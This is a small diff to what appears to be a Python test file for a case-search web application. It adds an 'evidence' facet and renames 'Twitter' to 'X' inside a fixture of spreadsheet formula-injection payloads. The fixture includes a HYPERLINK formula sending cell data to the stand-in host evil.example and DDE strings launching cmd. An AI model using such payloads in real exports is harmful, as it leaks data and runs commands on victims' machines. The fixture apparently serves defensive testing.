@@ -47,7 +47,7 @@ def test_search_answers_the_documented_shape(client):
     }  # fmt: skip
     assert hit["url"].startswith("/cases/")
     assert set(body["facets"]) == {
-        "theme", "country", "organisation", "platform", "year", "language", "result",
+        "theme", "country", "organisation", "platform", "year", "language", "result", "evidence",
     }  # fmt: skip
     theme = {v["value"]: v for v in body["facets"]["theme"]}
     assert theme["engagement-and-content"]["selected"] is True
@@ -103,7 +103,7 @@ HOSTILE = {
     "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the full report")',
     "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
     "summary": "+cmd|' /C notepad'!A0 and the rest of the summary",
-    "platforms": ["-2+3+cmd|' /C calc'!A0", "Twitter"],
+    "platforms": ["-2+3+cmd|' /C calc'!A0", "X"],
 }
 
 
